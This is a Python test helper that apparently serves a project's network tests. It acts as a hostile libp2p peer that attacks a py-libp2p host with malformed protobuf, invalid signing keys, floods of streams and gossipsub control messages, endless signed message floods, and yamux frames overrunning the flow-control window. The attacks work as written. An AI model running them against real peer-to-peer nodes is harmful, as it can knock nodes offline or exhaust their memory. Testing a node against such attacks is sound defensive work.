"""A peer that does what is known to end a host of py-libp2p, or to fill it.

`python -m tests.network.libp2p.attacker ADDRESS ATTACK NETWORK [OWN IP ADDRESS]`. It runs in a
process of its own, since the tests' does not load the library.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
import threading
from collections.abc import Awaitable, Callable
from functools import partial
from typing import Any

import trio
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_noise_key
from libp2p.peer.envelope import seal_record
from libp2p.peer.id import ID
from libp2p.peer.peer_record import PeerRecord
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.pubsub.pb import rpc_pb2
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE
from libp2p.security.noise.transport import Transport
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX
from libp2p.stream_muxer.yamux.yamux import Yamux
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

MESHSUB = "/meshsub/1.1.0"
CHUNK = 60_000
SENT = 1 << 30
LENGTHS = b"\0\x10\0\x10"
"""Wherever a message begins in a row of these, it has one MiB."""
TIMEOUT = 40.0
SIGNED_PREFIX = b"libp2p-pubsub:"
DATA_FRAME = struct.Struct("!BBHII")


class Attack:
    """With one connection."""

    def __init__(self, host: Any, peer: Any, network: str) -> None:
        self.host, self.peer, self.network = host, peer, network

    async def garbage(self) -> None:
        """No protobuf where one must be, and lengths that never end."""
        for body in (
            encode_varint_prefixed(os.urandom(300)),
            b"\xff" * 64,
            os.urandom(4000),
            encode_varint_prefixed(b"\x0a\xff"),
        ):
            stream = await self.host.new_stream(self.peer, [MESHSUB])
            await stream.write(body)
            await trio.sleep(0.1)

    async def key(self) -> None:
        """A message signed with what is no key."""
        stream = await self.host.new_stream(self.peer, [MESHSUB])
        for key, sender in ((b"\xff\xff", b"\x00\x01x"), (b"\x08\x01\x12\x01x", b""), (b"", b"\xff" * 200)):
            message = rpc_pb2.Message(
                data=b"good", topicIDs=[f"{self.network}/blocks/1"], from_id=sender, seqno=b"1", key=key, signature=b"x"
            )
            await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
            await trio.sleep(0.1)

    async def streams(self) -> None:
        """Streams that say nothing, and some that break off in the middle."""
        connection = self.host.get_network().get_connections(self.peer)[0]
        for number in range(200):
            stream = await connection.new_stream()
            if number % 3 == 0:
                await stream.write(b"\x13/multistream/1.0.0\n"[: number % 21])
            if number % 5 == 0:
                await stream.reset()

    async def control(self) -> None:
        """Control messages by thousands: topics that are not there, long names, refusals for ever, and records of whom
        to dial."""
        stream = await self.host.new_stream(self.peer, [MESHSUB])
        topic, bait = f"{self.network}/blocks/1", socket.create_server(("127.0.0.1", 0))
        key = create_new_key_pair()
        place = Multiaddr(f"/ip4/127.0.0.1/tcp/{bait.getsockname()[1]}")
        name = ID.from_pubkey(key.public_key)
        record = seal_record(PeerRecord(name, [place], 1), key.private_key).marshal_envelope()
        told = rpc_pb2.PeerInfo(peerID=name.to_bytes(), signedPeerRecord=record)
        for number in range(20):
            others = [f"topic {number} {each}" for each in range(5000)]
            for control in (
                rpc_pb2.ControlMessage(prune=[rpc_pb2.ControlPrune(topicID=each, backoff=1 << 60) for each in others]),
                rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID=each) for each in (*others, topic, topic)]),
                rpc_pb2.ControlMessage(idontwant=[rpc_pb2.ControlIDontWant(messageIDs=[os.urandom(400_000)])]),
                rpc_pb2.ControlMessage(
                    ihave=[rpc_pb2.ControlIHave(topicID=topic, messageIDs=[b"%d" % n for n in range(20_000)])]
                ),
                rpc_pb2.ControlMessage(prune=[rpc_pb2.ControlPrune(topicID=topic, peers=[told], backoff=1)]),
            ):
                await stream.write(encode_varint_prefixed(rpc_pb2.RPC(control=control).SerializeToString()))
        await self.want(stream, topic)
        await trio.sleep(1.0)
        bait.settimeout(0.0)
        with contextlib.suppress(BlockingIOError):
            bait.accept()
            print("it dials whom it is told", flush=True)

    async def want(self, stream: Any, topic: str) -> None:
        """The same large message, thousands of times."""
        message = self.signed(topic, b"good" + bytes(100_000), 1)
        await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))
        await trio.sleep(0.5)
        want = rpc_pb2.ControlIWant(messageIDs=[message.from_id + message.seqno] * 5000)
        wanted = rpc_pb2.RPC(control=rpc_pb2.ControlMessage(iwant=[want]))
        for _ in range(30):
            await stream.write(encode_varint_prefixed(wanted.SerializeToString()))

    def signed(self, topic: str, content: bytes, number: int) -> Any:
        """A message that is as it should be."""
        message = rpc_pb2.Message(
            data=content,
            topicIDs=[topic],
            from_id=self.host.get_id().to_bytes(),
            seqno=number.to_bytes(8, "big"),
        )
        message.signature = self.host.get_private_key().sign(SIGNED_PREFIX + message.SerializeToString())
        return message

    async def flood(self) -> None:
        """Signed messages of topics, as fast as they are taken; each is another."""
        stream = await self.host.new_stream(self.peer, [MESHSUB])
        number = 0
        while True:
            number += 1
            topic = f"{self.network}/{('blocks', 'transactions')[number % 2]}/1"
            message = self.signed(topic, b"flood %d" % number, number)
            await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString()))

    async def window(self) -> None:
        """More than the window of its stream allows, by frames that the library would not send."""
        stream = await self.host.new_stream(self.peer, [f"{self.network}/sync/1"])
        muxed = stream.muxed_stream
        frame = DATA_FRAME.pack(0, 0, 0, muxed.stream_id, CHUNK) + LENGTHS * (CHUNK // 4)
        for _ in range(SENT // CHUNK):
            if muxed.conn.is_closed or muxed.closed:
                raise ConnectionError("cut off")
            await muxed.conn._write_frame(frame)


def end_with_input() -> None:
    """Who has started it is gone."""
    sys.stdin.read()
    os._exit(0)


async def run(address: str, attack: str, network: str, source: str | None = None) -> None:
    if source is not None:
        threading.Thread(target=end_with_input, daemon=True).start()
        trio.open_tcp_stream = partial(trio.open_tcp_stream, local_address=source)
    key = create_new_key_pair()
    noise = Transport(key, noise_privkey=create_noise_key().private_key)
    host = new_host(key_pair=key, sec_opt={NOISE: noise}, muxer_opt={YAMUX: Yamux})
    host.get_network().set_resource_manager(None)
    info = info_from_p2p_addr(Multiaddr(address))
    with trio.move_on_after(TIMEOUT):
        async with host.run(listen_addrs=[]):
            await host.connect(info)
            work: Callable[[], Awaitable[None]] = getattr(Attack(host, info.peer_id, network), attack)
            print("connected", flush=True)
            try:
                await work()
            except Exception as error:  # noqa: BLE001 - whatever the library makes of being cut off
                print(f"broken off: {type(error).__name__}", flush=True)
            await trio.sleep(0.5)
            print("done", flush=True)
            os._exit(0)  # an attacker does not say goodbye


if __name__ == "__main__":
    trio.run(run, *sys.argv[1:5])
